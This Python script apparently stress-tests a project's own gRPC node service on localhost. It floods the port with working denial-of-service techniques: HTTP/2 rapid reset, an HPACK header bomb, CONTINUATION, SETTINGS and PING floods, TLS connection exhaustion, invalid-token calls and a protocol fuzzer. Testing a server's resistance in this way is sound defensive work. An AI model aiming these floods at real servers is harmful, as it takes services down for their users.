# SPDX-License-Identifier: Apache-2.0
"""Attacks the node stream's port as peers without a valid token may do, from addresses in 127.0.0.0/8.

    flood.py MODE PORT CONNECTIONS ADDRESSES SECONDS [TOKEN_FILE]

Keeps CONNECTIONS connections from ADDRESSES addresses busy for SECONDS, or longer until that many have been opened. Opens
closed connections again. Prints its counts as one JSON object. MODE:

    bare     TCP alone
    hello    half a ClientHello
    idle     the TLS handshake, then nothing
    junk     calls with invalid tokens
    reset    calls that are reset at once (HTTP/2 rapid reset)
    bomb     calls whose headers are thousands of references to one field (HPACK)
    frames   frames that are too long, and endless CONTINUATION, SETTINGS and PING frames
    slow     PING frames whose answers are not read
    noise    random bytes, damaged calls and, with a good token, damaged messages of an agent: a fuzzer
"""

import json
import random
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
PATH = "/kiln.node.v1.NodeService/Connect"
PATIENCE = 60  # additional seconds on a busy machine
RATE = 2000  # connections, and calls, that are begun in a second


def frame(kind, flags, stream, payload=b"", length=None):
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string literal of HPACK (RFC 7541 §5.2), without Huffman coding."""
    raw = value.encode() if isinstance(value, str) else value
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, out = len(raw) - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out) + bytes([rest]) + raw


def headers(token):
    fields = {":method": "POST", ":scheme": "https", ":path": PATH, ":authority": "x", "te": "trailers",
              "content-type": "application/grpc", "authorization": f"Bearer {token}"}
    return b"".join(b"\0" + text(k) + text(v) for k, v in fields.items())


def junk_token():
    """A random token that looks like a ServiceAccount's."""
    return f"e30.eyJleHAiOjQwMDAwMDAwMDB9.{random.randbytes(300).hex()}"


def junk(n):
    return frame(HEADERS, END_HEADERS, n, headers(junk_token()))


def reset(n):
    # A call without a token, the shortest possible, and its RST_STREAM.
    return frame(HEADERS, END_HEADERS, n, headers("")) + frame(RST_STREAM, 0, n, struct.pack(">I", 8))


def bomb(n):
    block = headers("") + b"\x40" + text("a") + text("v" * 100)
    return frame(HEADERS, END_HEADERS, n, block + bytes([0x80 | 62]) * (16000 - len(block)))


def odd_frames(n):
    return random.choice([
        frame(DATA, 0, 1, b"x" * 100, length=(1 << 24) - 1),
        frame(HEADERS, 0, n, headers("")) + frame(CONTINUATION, 0, n, b"\0\1a\1b" * 200) * 20,
        frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30)) * 200,
        frame(PING, 0, 0, b"12345678") * 200])


def damaged(raw, most):
    raw = bytearray(raw)
    for _ in range(random.randrange(most + 1)):
        raw[random.randrange(len(raw))] = random.randrange(256)
    return bytes(raw)


def message():
    """A nearly valid AgentMessage (node.proto): Hello, Ack or Report, in gRPC framing."""
    body = random.choice([bytes.fromhex("0a0a0801120474657374180a"), bytes.fromhex("120408031003"),
                          b"\x1a\x10" + random.randbytes(16), random.randbytes(random.randrange(2000))])
    body = damaged(body, 2) if body else body
    return damaged(b"\0" + struct.pack(">I", len(body)), random.choice([0, 0, 0, 1])) + body


def noise(n):
    if n > 1 and random.random() < 0.7:  # on the open call
        return b"".join(damaged(frame(DATA, 0, 1, message()), random.choice([0, 0, 1])) for _ in range(3))
    if random.random() < 0.2:
        return random.randbytes(random.randrange(1, 4000))
    if n == 1 and noise.token and random.random() < 0.7:
        return frame(HEADERS, END_HEADERS, 1, headers(noise.token)) + frame(DATA, 0, 1, message())
    return damaged(junk(n) + frame(DATA, random.randrange(256), n, random.randbytes(random.randrange(300))), 8)


noise.token = None
CALLS = {"junk": junk, "reset": reset, "bomb": bomb, "frames": odd_frames, "noise": noise,
         "slow": lambda n: frame(PING, 0, 0, b"12345678") * 50}


class Peer:
    def __init__(self, flood):
        self.flood, self.next, self.out, self.shaken = flood, 1, b"", False
        raw = socket.socket()
        raw.setblocking(False)
        raw.bind((f"127.{flood.rng.randrange(flood.networks)}.{flood.rng.randrange(flood.hosts)}.9", 0))
        raw.connect_ex(("127.0.0.1", flood.port))
        self.socket = raw if flood.mode in ("bare", "hello") else flood.context.wrap_socket(
            raw, do_handshake_on_connect=False, suppress_ragged_eofs=True)
        flood.selector.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)
        flood.counts["connections"] += 1

    def wait_for(self, events):
        self.flood.selector.modify(self.socket, events, self)

    def go_on(self):
        """Does the next step of the attack. Raises OSError when the server has closed the connection."""
        flood = self.flood
        if flood.mode in ("bare", "hello"):
            if not self.shaken:
                self.shaken = True
                if flood.mode == "hello":
                    self.socket.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50))
                self.wait_for(selectors.EVENT_READ)
            elif not self.socket.recv(100):
                raise OSError
            return
        if not self.shaken:
            self.socket.do_handshake()
            self.shaken = True
            flood.counts["handshakes"] += 1
            self.out = b"" if flood.mode == "idle" else PREFACE + frame(SETTINGS, 0, 0)
        if flood.mode != "slow":
            try:
                if not self.socket.recv(16384):
                    raise OSError
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
        while flood.mode != "idle":
            if not self.out and flood.may_call():
                self.out = CALLS[flood.mode](self.next)
                self.next += 2
                flood.counts["calls"] += 1
            if not self.out:
                break
            self.out = self.out[self.socket.send(self.out):]
        self.wait_for(selectors.EVENT_READ)

    def close(self):
        self.flood.selector.unregister(self.socket)
        self.socket.close()


class Flood:
    def __init__(self, mode, port, connections, addresses, seconds):
        self.mode, self.port, self.wanted = mode, port, connections
        self.until = time.monotonic() + seconds
        self.hosts = min(addresses, 250)
        self.networks = max(1, addresses // 250)
        self.rng, self.selector = random.Random(1), selectors.DefaultSelector()
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])
        self.counts = {"connections": 0, "handshakes": 0, "calls": 0, "closed": 0, "most": 0}
        self.allowed, self.peers = {"call": 0.0, "peer": 0.0}, set()

    def refill(self, seconds):
        for what in self.allowed:
            self.allowed[what] = min(self.allowed[what] + seconds * RATE, RATE / 4)

    def may(self, what):
        if self.allowed[what] < 1:
            return False
        self.allowed[what] -= 1
        return True

    def may_call(self):
        return self.mode in ("reset", "bomb", "frames", "slow", "noise") or self.may("call")

    def turn(self):
        while len(self.peers) < self.wanted and self.may("peer"):
            self.peers.add(Peer(self))
        for key, _ in self.selector.select(0.02):
            peer = key.data
            try:
                peer.go_on()
            except ssl.SSLWantReadError:
                peer.wait_for(selectors.EVENT_READ)
            except (ssl.SSLWantWriteError, BlockingIOError):
                peer.wait_for(selectors.EVENT_READ | selectors.EVENT_WRITE)
            except OSError:
                peer.close()
                self.peers.discard(peer)
                self.counts["closed"] += 1
        if self.mode == "junk":  # open peers that wait for the server make further calls
            for peer in list(self.peers)[:64]:
                if peer.shaken:
                    peer.wait_for(selectors.EVENT_READ | selectors.EVENT_WRITE)
        self.counts["most"] = max(self.counts["most"], len(self.peers))

    def run(self):
        last = time.monotonic()
        while last < self.until or (self.counts["connections"] < self.wanted and last < self.until + PATIENCE):
            now = time.monotonic()
            self.refill(now - last)
            last = now
            self.turn()
        return self.counts


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if len(sys.argv) > 6:
        with open(sys.argv[6], encoding="utf-8") as f:
            noise.token = f.read()
    print(json.dumps(Flood(sys.argv[1], *map(int, sys.argv[2:6])).run()))
